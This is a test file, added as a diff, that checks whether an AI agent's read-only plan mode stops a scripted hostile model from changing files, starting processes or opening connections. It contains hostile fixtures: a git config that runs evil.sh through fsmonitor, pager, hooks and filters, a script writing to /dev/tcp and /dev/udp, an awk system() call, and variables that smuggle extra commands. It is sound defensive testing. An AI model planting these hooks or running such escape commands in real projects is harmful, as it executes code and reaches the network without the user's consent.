@@ -1,0 +1,312 @@
+import { execFileSync, spawn } from "node:child_process"
+import { createSocket } from "node:dgram"
+import { once } from "node:events"
+import {
+  appendFileSync,
+  linkSync,
+  mkdirSync,
+  readdirSync,
+  readFileSync,
+  readlinkSync,
+  symlinkSync,
+  writeFileSync,
+} from "node:fs"
+import { createServer } from "node:net"
+import { basename, dirname, join } from "node:path"
+import { setTimeout } from "node:timers/promises"
+
+import { describe, expect, test } from "vitest"
+
+import { findBubblewrap } from "../support/bubblewrap.ts"
+import { directoryContents } from "../support/directory-contents.ts"
+import { createRepository } from "../support/git-repository.ts"
+import { titleWithReason } from "../support/skip-reason.ts"
+import type { TemporaryHome } from "../support/temporary-home.ts"
+import { callsTool, repeat, reply, says } from "../support/model-server/turn.ts"
+import type { ScriptedCall, ScriptEntry, TurnFunction } from "../support/model-server/turn.ts"
+import { assembleApp, runToEnd } from "./assembled-app.ts"
+import type { AssembledApp } from "./assembled-app.ts"
+
+const bubblewrap = await findBubblewrap()
+const missing = "missing" in bubblewrap ? bubblewrap.missing : undefined
+
+type Attempt =
+  | { readonly command: string; readonly why: string }
+  | { readonly tool: string; readonly args: Readonly<Record<string, unknown>>; readonly why: string }
+
+/** What the attempts name: paths, ports, processes. */
+type Places = Readonly<Record<string, string>>
+
+const ATTEMPTS = readFileSync(new URL("../fixtures/permissions/plan-attempts.jsonl", import.meta.url), "utf8")
+
+function attemptsIn(places: Places): readonly Attempt[] {
+  const filled = ATTEMPTS.replaceAll(/\{(\w+)\}/gu, (found, name: string) => places[name] ?? found)
+  return filled
+    .split("\n")
+    .filter((line) => line !== "")
+    .map((line) => JSON.parse(line) as Attempt)
+}
+
+/** Every way in which a command can reach a shell. */
+const WAYS: Readonly<Record<string, (command: string, places: Places) => ScriptedCall>> = {
+  foreground: (command) => ({ name: "terminal", input: { command, timeout: 5 } }),
+  background: (command) => ({ name: "terminal", input: { command, background: true } }),
+  "pseudo-terminal": (command) => ({ name: "terminal", input: { command, pty: true, timeout: 5 } }),
+  "background in a pseudo-terminal": (command) => ({
+    name: "terminal",
+    input: { command, background: true, pty: true },
+  }),
+  "input of a shell": (command, { shell }) => ({
+    name: "process",
+    input: { action: "submit", session_id: shell, data: command },
+  }),
+  bridge: (command) => ({ name: "tool_call", input: { name: "terminal", arguments: { command, timeout: 5 } } }),
+  "input of a shell through the bridge": (command, { shell }) => ({
+    name: "tool_call",
+    input: { name: "process", arguments: { action: "write", session_id: shell, data: `${command}\n` } },
+  }),
+}
+
+/** Definitions from before plan mode that later commands try to use. */
+const EARLIER = [
+  "hijack() { touch hijacked; }",
+  "alias ll='touch hijacked'",
+  "export RUN='touch hijacked' FLAG='-l; touch hijacked' EDITOR_CMD='touch'",
+  'hijacked_cat() { cat "$@"; touch hijacked; }',
+]
+
+describe.skipIf(missing !== undefined)(titleWithReason("a hostile model in plan mode", missing), () => {
+  test.for(Object.keys(WAYS))("changes, starts and sends nothing: commands by %s", async (way) => {
+    // The policy decides alike for every way, so the others get a different part of the commands each.
+    const ways = Object.keys(WAYS)
+    const isPart = (index: number): boolean =>
+      way === "foreground" || index % (ways.length - 1) === ways.indexOf(way) - 1
+    await attempt((places) =>
+      attemptsIn(places)
+        .flatMap((each) => ("command" in each ? [each.command] : []))
+        .filter((_command, index) => isPart(index))
+        .flatMap((command) => {
+          const callOf = WAYS[way]
+          return callOf === undefined ? [] : [callOf(command, places)]
+        }),
+    )
+  })
+
+  test.for([false, true])(
+    "changes, starts and sends nothing: calls of every tool, through the bridge: %s",
+    async (isBridged) => {
+      await attempt((places) =>
+        attemptsIn(places).flatMap((attempt): ScriptedCall[] => {
+          if ("command" in attempt) return []
+          const { tool: name, args } = attempt
+          return [isBridged ? { name: "tool_call", input: { name, arguments: args } } : { name, input: args }]
+        }),
+      )
+    },
+  )
+})
+
+/** Makes the calls in plan mode, several at a time, and compares the machine before and after. */
+async function attempt(callsFor: (places: Places) => readonly ScriptedCall[]): Promise<void> {
+  await using listener = await startListener()
+  const replies: ScriptEntry[] = []
+  const next: TurnFunction = async (request) => {
+    const entry = replies.shift() ?? says("This is the plan.")
+    if (typeof entry === "function") return await entry(request)
+    return entry.kind === "repeat" ? says("") : entry
+  }
+  await using assembled = await assembleApp([repeat(next)], { config: CONFIG, workFiles: WORK })
+  prepareFiles(assembled, listener.ports)
+  const { home } = assembled
+  replies.push(...SETUP)
+  const session = await assembled.open({ permissionProfile: "full-auto" })
+  const setup = await runToEnd(session, "prepare")
+  const results = JSON.stringify(setup.end.result.messages)
+  const places: Places = {
+    ...listener.ports,
+    work: home.workdir,
+    home: home.userHome,
+    hermes: home.path,
+    plan: `.hermes/plans/${session.id}.md`,
+    shell: /proc_\w+/u.exec(results)?.[0] ?? "missing",
+  }
+  expect(results).toContain(places["shell"])
+  session.setPermissionProfile("plan")
+  const calls = callsFor(places)
+  expect(calls.length).toBeGreaterThan(50)
+  for (let index = 0; index < calls.length; index += BATCH)
+    replies.push(reply({ calls: calls.slice(index, index + BATCH) }))
+  const before = snapshot(home, places)
+  const processes = await processesBelow(dirname(home.workdir))
+  let settled = 0
+  const changes: string[] = []
+  await runToEnd(session, "plan something", (event) => {
+    if (event.type === "clarify-request" || event.type === "approval-request")
+      changes.push(`asked: ${JSON.stringify(event)}`)
+    if (event.type !== "tool-end") return
+    settled += 1
+    if (settled % BATCH !== 0) return
+    const found = differences(before, snapshot(home, places))
+    if (found.length > 0 && changes.length === 0)
+      changes.push(`${JSON.stringify(event.call)} or one shortly before: ${found.join(", ")}`)
+  })
+  expect(changes).toEqual([])
+  // The same call twice in one reply is made once.
+  expect(settled).toBeGreaterThan(calls.length * 0.95)
+  expect(differences(before, snapshot(home, places))).toEqual([])
+  expect(await processesBelow(dirname(home.workdir), processes)).toEqual(processes)
+  expect(listener.received()).toEqual([])
+}
+
+/** Calls of one reply; those that only read run in parallel. */
+const BATCH = 8
+
+const CONFIG = "agent: {max_turns: 5000, prompt_style: lean}\ntool_loop_guardrails: {hard_stop_enabled: false}\n"
+
+const SETUP: readonly ScriptEntry[] = [
+  ...EARLIER.map((command) => callsTool("terminal", { command })),
+  callsTool("terminal", { command: "bash", background: true }),
+  callsTool("tool_call", { name: "memory", arguments: { action: "add", target: "memory", content: "A fact" } }),
+  callsTool("tool_call", { name: "learnings", arguments: { action: "save", pattern: "E1 happened", fix: "restart" } }),
+  callsTool("tool_call", { name: "checkpoint", arguments: { action: "save", name: "cp1" } }),
+  says("Ready."),
+]
+
+const WORK = {
+  "a.txt": "before\n",
+  "src/b.ts": "export const b = 1\n",
+  "evil.sh": "",
+  ".gitattributes": "*.txt diff=evil filter=evil\n",
+  rgrc: "--pre=./evil.sh\n",
+  "p.diff": "--- a.txt\n+++ a.txt\n@@ -1 +1 @@\n-before\n+owned\n",
+  "s.sed": "w x\n",
+  "e.awk": 'BEGIN { system("touch x") }\n',
+  "a.json": "{}\n",
+  "a.yaml": "a: 0\n",
+  "script.py": "open('x', 'w')\n",
+}
+
+/** Programs that git starts by itself in this repository, even for commands that only read. */
+const HOSTILE_GIT = `
+[core]
+	fsmonitor = EVIL
+	pager = EVIL
+	hooksPath = .
+[diff]
+	external = EVIL
+[diff "evil"]
+	textconv = EVIL
+[filter "evil"]
+	clean = EVIL
+	smudge = EVIL
+	process = EVIL
+`
+
+function prepareFiles({ home }: AssembledApp, { tcp, udp }: { readonly tcp: string; readonly udp: string }): void {
+  createRepository(home.workdir, {})
+  const at = (name: string): string => join(home.workdir, name)
+  const escape = [
+    "touch hijacked ~/hijacked",
+    `echo x > /dev/udp/127.0.0.1/${udp}`,
+    `echo x > /dev/tcp/127.0.0.1/${tcp}`,
+    "setsid sleep 600 &",
+    "exit 0",
+  ]
+  writeFileSync(at("evil.sh"), `#!/bin/bash\n${escape.join("\n")}\n`, { mode: 0o755 })
+  appendFileSync(at(".git/config"), HOSTILE_GIT.replaceAll("EVIL", at("evil.sh")))
+  execFileSync("mkfifo", [at("fifo")])
+  execFileSync("tar", ["-C", home.workdir, "-cf", at("x.tar"), "a.txt"])
+  writeFileSync(join(home.userHome, ".bashrc"), "# mine\n")
+  linkSync(join(home.userHome, ".bashrc"), at("hard.txt"))
+  symlinkSync(home.userHome, at("linked"))
+  mkdirSync(join(home.path, "plans"), { recursive: true })
+  writeFileSync(join(home.path, "plans/other.json"), "{}\n")
+}
+
+/** What Hermes itself keeps while a conversation runs. */
+const OWN_RECORDS = [
+  "logs",
+  "state.db",
+  "state.db-wal",
+  "state.db-shm",
+  "memory_index.db",
+  "memory_index.db-wal",
+  "memory_index.db-shm",
+  "plans",
+  "cache",
+  "checkpoints",
+  "sessions",
+]
+
+function snapshot({ workdir, userHome, path }: TemporaryHome, { plan = "" }: Places): Readonly<Record<string, string>> {
+  const prefixed = (prefix: string, contents: Readonly<Record<string, string>>) =>
+    Object.entries(contents).map(([name, facts]) => [`${prefix}${name}`, facts] as const)
+  const project = prefixed("work", directoryContents(workdir)).filter(
+    ([name]) => !["work/.hermes", "work/.hermes/plans", `work/${plan}`].includes(name),
+  )
+  const user = prefixed("home", directoryContents(userHome, [basename(path)]))
+  const own = prefixed("hermes", directoryContents(path, OWN_RECORDS))
+  return Object.fromEntries([...project, ...user, ...own])
+}
+
+function differences(
+  before: Readonly<Record<string, string>>,
+  after: Readonly<Record<string, string>>,
+): readonly string[] {
+  const names = new Set([...Object.keys(before), ...Object.keys(after)])
+  return [...names].filter((name) => before[name] !== after[name])
+}
+
+/** The command lines of the processes that work in a directory, apart from shells that Hermes keeps ready. Waits until they are as expected. */
+async function processesBelow(directory: string, expected?: readonly string[]): Promise<readonly string[]> {
+  const read = (): readonly string[] =>
+    readdirSync("/proc")
+      .filter((name) => /^\d+$/u.test(name))
+      .flatMap((pid) => {
+        try {
+          const isBelow = readlinkSync(`/proc/${pid}/cwd`).startsWith(directory)
+          const line = readFileSync(`/proc/${pid}/cmdline`, "utf8").replaceAll("\0", " ").trim()
+          return isBelow && line !== "" && !line.includes("__hermes_size") && !line.includes("bwrap") ? [line] : []
+        } catch {
+          // The process has exited in the meantime.
+          return []
+        }
+      })
+      .toSorted()
+  for (let tries = 0; tries < 50; tries += 1) {
+    if (expected !== undefined && JSON.stringify(read()) === JSON.stringify(expected)) break
+    await setTimeout(20)
+  }
+  return read()
+}
+
+/** A server for every kind of connection. `received` lists what arrived. */
+async function startListener() {
+  const received: string[] = []
+  const server = createServer((socket) => {
+    received.push("a TCP connection")
+    socket.on("error", () => undefined)
+    socket.end()
+  })
+  const udp = createSocket("udp4", (message) => received.push(`a datagram: ${message.toString("latin1")}`))
+  server.listen(0, "127.0.0.1")
+  udp.bind(0, "127.0.0.1")
+  await Promise.all([once(server, "listening"), once(udp, "listening")])
+  const victim = spawn("sleep", ["3600"], { stdio: "ignore" })
+  const address = server.address()
+  return {
+    ports: {
+      tcp: String(typeof address === "object" ? address?.port : 0),
+      udp: String(udp.address().port),
+      victim: String(victim.pid),
+    },
+    received: () =>
+      victim.exitCode === null && victim.signalCode === null ? received : [...received, "the process was killed"],
+    [Symbol.asyncDispose]: async () => {
+      victim.kill("SIGKILL")
+      udp.close()
+      server.close()
+      await once(server, "close")
+    },
+  }
+}
